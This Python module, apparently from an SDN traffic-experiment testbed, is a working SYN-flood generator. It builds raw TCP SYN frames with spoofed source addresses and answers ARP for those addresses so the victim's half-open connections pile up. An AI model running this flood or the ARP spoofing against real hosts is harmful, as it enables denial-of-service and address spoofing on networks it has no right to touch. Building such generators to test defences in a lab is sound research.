"""SYNs that nobody means: a flood of half-open connections from one host, by a raw socket.

Their source addresses are none of the host's own, so its kernel, which knows nothing of them, does not reset
what the victim answers: the connections stay half-open. The generator answers ARP for them, so that the
answers do cross the network, as they would with addresses of a real network.
"""

from __future__ import annotations

import ipaddress
import random
import selectors
import socket
import struct
import time
from collections.abc import Sequence

from fairq_ryu.experiments.traffic.flow_sender import await_all
from fairq_ryu.experiments.traffic.generator_control import Json, Loop, answer

BURST_S = 0.002
"""SYNs are sent in bursts, so often: a wake-up for each would take the processor from the switch."""
MOST_BURSTS = 10
_ETH_ARP, _ETH_IP = 0x0806, 0x0800
_BROADCAST = b"\xff" * 6
_PORTS = range(1024, 65536)
_OPTIONS = bytes.fromhex("020405b401030307")  # MSS 1460, NOP, window scale 7
_TCP = struct.Struct("!HHIIBBHHH")


def checksum(data: bytes) -> int:
    """The Internet checksum (RFC 1071) of ``data``; 0 over data that contains its right one."""
    if len(data) % 2:
        data += b"\0"
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xFFFF) + (total >> 16)
    return ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF


def syn(macs: tuple[bytes, bytes], source: str, sport: int, target: str, dport: int, seq: int) -> bytes:
    """A frame with a SYN as Linux would send it; ``macs`` are (source, target)."""
    ends = socket.inet_aton(source) + socket.inet_aton(target)
    tcp = _TCP.pack(sport, dport, seq, 0, (_TCP.size + len(_OPTIONS)) << 2, 2, 64240, 0, 0) + _OPTIONS
    tcp_sum = checksum(ends + struct.pack("!HH", socket.IPPROTO_TCP, len(tcp)) + tcp)
    tcp = tcp[:16] + struct.pack("!H", tcp_sum) + tcp[18:]
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, socket.IPPROTO_TCP, 0) + ends
    head = head[:10] + struct.pack("!H", checksum(head)) + head[12:]
    source_mac, target_mac = macs
    return target_mac + source_mac + struct.pack("!H", _ETH_IP) + head + tcp


def arp(operation: int, mac: bytes, address: str, target_mac: bytes, target: str) -> bytes:
    """An ARP frame: question (1) or answer (2) of ``address`` at ``mac`` to ``target`` at ``target_mac``."""
    asked = bytes(6) if operation == 1 else target_mac
    return (
        target_mac + mac + struct.pack("!HHHBBH", _ETH_ARP, 1, _ETH_IP, 6, 4, operation)
        + mac + socket.inet_aton(address) + asked + socket.inet_aton(target)
    )  # fmt: skip


def spare_addresses(network: str, count: int) -> list[str]:
    """The last ``count`` addresses of ``network`` (such as 10.0.0.1/8); hosts count from its first."""
    ends = ipaddress.ip_network(network, strict=False)
    return [str(ends.broadcast_address - 1 - number) for number in range(count)]


class Syns:
    """``aim`` names the victim and the addresses to speak for, ``flood`` sends ``rate`` SYNs a second for
    ``seconds`` and answers with the number really sent and the time that took.
    """

    def __init__(self, loop: Loop) -> None:
        self._loop = loop
        self._sock: socket.socket | None = None
        self._mac = b""
        self._addresses: Sequence[str] = ()
        self._target: tuple[bytes, str, int] = (b"", "", 0)
        answer("ready")

    def command(self, order: Json) -> None:
        if order["cmd"] == "aim":
            self._aim(order)
            answer("aim")
        else:
            self._flood(order["rate"], order["seconds"], order["seed"])

    def _aim(self, order: Json) -> None:
        self._sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(_ETH_ARP))
        self._sock.bind((order["interface"], _ETH_ARP))
        self._sock.setblocking(False)
        self._mac = self._sock.getsockname()[4]
        self._addresses = order["addresses"]
        self._target = (bytes.fromhex(order["mac"].replace(":", "")), order["address"], order["port"])
        self._loop.add(self._sock, selectors.EVENT_READ, self._asked)
        for address in self._addresses:
            # Everybody hears of the address, so that switches and controller know where it is.
            self._sock.send(arp(1, self._mac, address, _BROADCAST, address))

    def _asked(self, _events: int) -> None:
        assert self._sock is not None
        try:
            frame = self._sock.recv(256)
        except BlockingIOError:
            return
        if len(frame) < 42 or frame[20:22] != b"\0\1":
            return
        asker_mac, asker, wanted = (
            frame[22:28],
            socket.inet_ntoa(frame[28:32]),
            socket.inet_ntoa(frame[38:42]),
        )
        if wanted in self._addresses and asker_mac != self._mac:
            self._sock.send(arp(2, self._mac, wanted, asker_mac, asker))

    def _flood(self, rate: float, seconds: float, seed: int) -> None:
        assert self._sock is not None
        mac, address, port = self._target
        choose = random.Random(seed)
        began = last = time.monotonic()
        credit = 1.0
        sent = 0
        while (now := time.monotonic()) - began < seconds and self._loop.running:
            # After a long pause not all that was missed at once: that would be a burst, and no flood.
            credit = min(credit + (now - last) * rate, max(1.0, rate * BURST_S * MOST_BURSTS))
            last = now
            for _ in range(int(credit)):
                source = self._addresses[sent % len(self._addresses)]
                sport = _PORTS[sent // len(self._addresses) % len(_PORTS)]
                self._send(syn((self._mac, mac), source, sport, address, port, choose.getrandbits(32)))
                sent += 1
                credit -= 1
            await_all(self._loop, lambda: True, now + BURST_S)
        answer("flood", sent=sent, seconds=time.monotonic() - began)

    def _send(self, frame: bytes) -> None:
        assert self._sock is not None
        while True:
            try:
                self._sock.send(frame)
                return
            except BlockingIOError:  # the interface is full
                time.sleep(0.0005)
            except OSError as error:
                raise RuntimeError(f"cannot send a SYN: {error.strerror}") from error
